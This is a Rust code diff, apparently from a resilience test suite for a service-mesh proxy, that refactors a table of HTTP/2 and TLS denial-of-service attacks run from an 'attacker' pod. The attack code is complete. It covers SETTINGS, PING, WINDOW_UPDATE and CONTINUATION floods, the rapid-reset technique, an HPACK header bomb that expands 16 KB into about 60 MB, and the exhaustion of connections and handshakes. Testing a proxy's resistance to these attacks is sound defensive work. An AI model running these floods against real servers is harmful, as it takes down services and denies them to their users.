@@ -30,17 +30,17 @@ const IDENTITY: &str = "spiffe://cluster.local/ns/shop/sa/evil";
 
 /// HTTP/2, by hand: h2 would not let us.
 mod frames {
-    pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-    pub const DATA: u8 = 0;
-    pub const HEADERS: u8 = 1;
-    pub const RESET: u8 = 3;
-    pub const SETTINGS: u8 = 4;
-    pub const PING: u8 = 6;
-    pub const WINDOW_UPDATE: u8 = 8;
-    pub const CONTINUATION: u8 = 9;
-    pub const END_HEADERS: u8 = 4;
+    pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+    pub(crate) const DATA: u8 = 0;
+    pub(crate) const HEADERS: u8 = 1;
+    pub(crate) const RESET: u8 = 3;
+    pub(crate) const SETTINGS: u8 = 4;
+    pub(crate) const PING: u8 = 6;
+    pub(crate) const WINDOW_UPDATE: u8 = 8;
+    pub(crate) const CONTINUATION: u8 = 9;
+    pub(crate) const END_HEADERS: u8 = 4;
 
-    pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
         let length = u32::try_from(payload.len()).expect("a short payload").to_be_bytes();
         let mut frame = vec![length[1], length[2], length[3], kind, flags];
         frame.extend(stream.to_be_bytes());
@@ -49,7 +49,7 @@ mod frames {
     }
 
     /// A literal field, neither indexed nor compressed.
-    pub fn field(name: &str, value: &[u8]) -> Vec<u8> {
+    pub(crate) fn field(name: &str, value: &[u8]) -> Vec<u8> {
         let mut block = vec![0];
         integer(&mut block, name.len());
         block.extend(name.as_bytes());
@@ -59,7 +59,7 @@ mod frames {
     }
 
     /// With a prefix of seven bits.
-    pub fn integer(block: &mut Vec<u8>, value: usize) {
+    pub(crate) fn integer(block: &mut Vec<u8>, value: usize) {
         let Some(mut rest) = value.checked_sub(127) else {
             block.push(u8::try_from(value).expect("below 127"));
             return;
@@ -73,12 +73,12 @@ mod frames {
     }
 
     /// A request for a tunnel.
-    pub fn connect(authority: &str) -> Vec<u8> {
+    pub(crate) fn connect(authority: &str) -> Vec<u8> {
         [field(":method", b"CONNECT"), field(":authority", authority.as_bytes())].concat()
     }
 
     /// The preface and settings with which every connection begins.
-    pub fn hello() -> Vec<u8> {
+    pub(crate) fn hello() -> Vec<u8> {
         [PREFACE.to_vec(), frame(SETTINGS, 0, 0, &[])].concat()
     }
 }
@@ -101,10 +101,10 @@ impl Attack<'_> {
     }
 
     /// Runs an attack's tasks inside the attacker's pod.
-    fn run(&self, work: impl Future<Output = Result<()>> + Send) -> Result<()> {
+    fn run<F: Future<Output = Result<()>>>(&self, work: impl FnOnce() -> F + Send) -> Result<()> {
         self.from.run(|| {
             let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
-            runtime.block_on(work)
+            runtime.block_on(work())
         })?
     }
 
@@ -114,7 +114,7 @@ impl Attack<'_> {
     }
 
     /// Says `first`, and then `again` for as long as it is let, on one connection after the other. What is answered is read or left lying.
-    async fn flood(&self, first: &[u8], reads: bool, mut again: impl FnMut(u32) -> Vec<u8>) -> Result<()> {
+    async fn flood(&self, first: Vec<u8>, reads: bool, mut again: impl FnMut(u32) -> Vec<u8>) -> Result<()> {
         let (mut connections, mut bytes, mut number) = (0, 0_usize, 0);
         while self.goes_on() {
             let Ok(tls) = self.certified().await else { continue };
@@ -122,7 +122,7 @@ impl Attack<'_> {
             let (mut reader, mut writer) = tokio::io::split(tls);
             let says = async {
                 number = 0;
-                writer.write_all(first).await?;
+                writer.write_all(&first).await?;
                 while self.goes_on() {
                     let piece: Vec<u8> = (0..64)
                         .flat_map(|_| {
@@ -186,86 +186,104 @@ impl Attack<'_> {
 type Row = (&'static str, fn(&Attack<'_>) -> Result<()>);
 
 const ROWS: &[Row] = &[
-    ("SETTINGS flood", |a| a.run(a.flood(&hello(), false, |_| frame(frames::SETTINGS, 0, 0, &[])))),
-    ("PING flood, answers unread", |a| {
-        a.run(a.flood(&hello(), false, |_| frame(frames::PING, 0, 0, &[7; 8])))
+    ("SETTINGS flood", |a| {
+        a.run(move || a.flood(hello(), false, move |_| frame(frames::SETTINGS, 0, 0, &[])))
     }),
-    ("PING flood, answers read", |a| a.run(a.flood(&hello(), true, |_| frame(frames::PING, 0, 0, &[7; 8])))),
+    ("PING flood, answers unread", |a| {
+        a.run(move || a.flood(hello(), false, move |_| frame(frames::PING, 0, 0, &[7; 8])))
+    }),
+    ("PING flood, answers read", |a| {
+        a.run(move || a.flood(hello(), true, move |_| frame(frames::PING, 0, 0, &[7; 8])))
+    }),
     ("empty DATA flood", |a| {
         let open = frame(frames::HEADERS, frames::END_HEADERS, 1, &frames::connect(&a.authority));
-        a.run(a.flood(&[hello(), open].concat(), true, |_| frame(frames::DATA, 0, 1, &[])))
+        a.run(move || a.flood([hello(), open].concat(), true, move |_| frame(frames::DATA, 0, 1, &[])))
     }),
     ("WINDOW_UPDATE flood", |a| {
-        a.run(a.flood(&hello(), true, |_| frame(frames::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])))
+        a.run(move || a.flood(hello(), true, move |_| frame(frames::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])))
     }),
     ("CONTINUATION flood", |a| {
         let open = frame(frames::HEADERS, 0, 1, &frames::connect(&a.authority));
         let more = frames::field("x", b"y");
-        a.run(a.flood(&[hello(), open].concat(), true, |_| frame(frames::CONTINUATION, 0, 1, &more)))
+        a.run(move || {
+            a.flood([hello(), open].concat(), true, move |_| frame(frames::CONTINUATION, 0, 1, &more))
+        })
     }),
     ("rapid reset", |a| {
         let head = frames::connect(&a.deaf);
-        a.run(a.flood(&hello(), true, |number| {
-            let stream = 2 * number - 1;
-            let cancel = frame(frames::RESET, 0, stream, &[0, 0, 0, 8]);
-            [frame(frames::HEADERS, frames::END_HEADERS, stream, &head), cancel].concat()
-        }))
+        a.run(move || {
+            a.flood(hello(), true, move |number| {
+                let stream = 2 * number - 1;
+                let cancel = frame(frames::RESET, 0, stream, &[0, 0, 0, 8]);
+                [frame(frames::HEADERS, frames::END_HEADERS, stream, &head), cancel].concat()
+            })
+        })
     }),
     ("a megabyte of head", |a| {
         let big = frames::field("x-big", &[b'x'; 16_000]);
         let head = frames::connect(&a.authority);
-        a.run(a.flood(&hello(), true, |number| {
-            let stream = 2 * number - 1;
-            let mut block = frame(frames::HEADERS, 0, stream, &head);
-            (0..64).for_each(|_| block.extend(frame(frames::CONTINUATION, 0, stream, &big)));
-            block.extend(frame(frames::CONTINUATION, frames::END_HEADERS, stream, &[]));
-            block
-        }))
+        a.run(move || {
+            a.flood(hello(), true, move |number| {
+                let stream = 2 * number - 1;
+                let mut block = frame(frames::HEADERS, 0, stream, &head);
+                (0..64).for_each(|_| block.extend(frame(frames::CONTINUATION, 0, stream, &big)));
+                block.extend(frame(frames::CONTINUATION, frames::END_HEADERS, stream, &[]));
+                block
+            })
+        })
     }),
     ("header bomb", |a| {
         // One entry of the table, told once, then named by one byte 16,000 times: 60 MB of head in 16 KB.
         let mut entry = frames::field("bomb", &[b'x'; 3900]);
         entry[0] = 0x40;
         let head = [frames::connect(&a.authority), entry, vec![0x80 | 62; 12_000]].concat();
-        a.run(a.flood(&hello(), true, |number| {
-            frame(frames::HEADERS, frames::END_HEADERS, 2 * number - 1, &head)
-        }))
+        a.run(move || {
+            a.flood(hello(), true, move |number| {
+                frame(frames::HEADERS, frames::END_HEADERS, 2 * number - 1, &head)
+            })
+        })
     }),
     ("2,000 silent connections, no certificate", |a| {
-        a.run(a.hoard(2000, async || Ok(tokio::net::TcpStream::connect(a.peer).await?)))
+        a.run(move || a.hoard(2000, async || Ok(tokio::net::TcpStream::connect(a.peer).await?)))
     }),
     ("2,000 handshakes that stop after some bytes", |a| {
-        a.run(a.hoard(2000, async || {
-            let mut socket = tokio::net::TcpStream::connect(a.peer).await?;
-            socket.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).await?;
-            Ok(socket)
-        }))
+        a.run(move || {
+            a.hoard(2000, async || {
+                let mut socket = tokio::net::TcpStream::connect(a.peer).await?;
+                socket.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).await?;
+                Ok(socket)
+            })
+        })
     }),
     ("certified connections that never send a preface", |a| {
-        a.run(a.hoard(1000, async || a.certified().await))
+        a.run(move || a.hoard(1000, async || a.certified().await))
     }),
     ("as many certified connections as it gets", |a| {
-        a.run(a.hoard(1000, async || {
-            let mut tls = a.certified().await?;
-            tls.write_all(&hello()).await?;
-            tls.flush().await?;
-            // Settings come from who has taken us.
-            tls.read_exact(&mut [0; 9]).await?;
-            Ok(tls)
-        }))
+        a.run(move || {
+            a.hoard(1000, async || {
+                let mut tls = a.certified().await?;
+                tls.write_all(&hello()).await?;
+                tls.flush().await?;
+                // Settings come from who has taken us.
+                tls.read_exact(&mut [0; 9]).await?;
+                Ok(tls)
+            })
+        })
     }),
     ("10,000 tunnels to an application that never accepts", |a| {
-        a.run(a.hoard(100, async || {
-            let mut tls = a.certified().await?;
-            let head = frames::connect(&a.deaf);
-            let opens = (0..100)
-                .flat_map(|number| frame(frames::HEADERS, frames::END_HEADERS, 2 * number + 1, &head));
-            tls.write_all(&hello()).await?;
-            tls.write_all(&opens.collect::<Vec<u8>>()).await?;
-            tls.flush().await?;
-            tls.read_exact(&mut [0; 9]).await?;
-            Ok(tls)
-        }))
+        a.run(move || {
+            a.hoard(100, async || {
+                let mut tls = a.certified().await?;
+                let head = frames::connect(&a.deaf);
+                let opens = (0..100)
+                    .flat_map(|number| frame(frames::HEADERS, frames::END_HEADERS, 2 * number + 1, &head));
+                tls.write_all(&hello()).await?;
+                tls.write_all(&opens.collect::<Vec<u8>>()).await?;
+                tls.flush().await?;
+                tls.read_exact(&mut [0; 9]).await?;
+                Ok(tls)
+            })
+        })
     }),
 ];
 
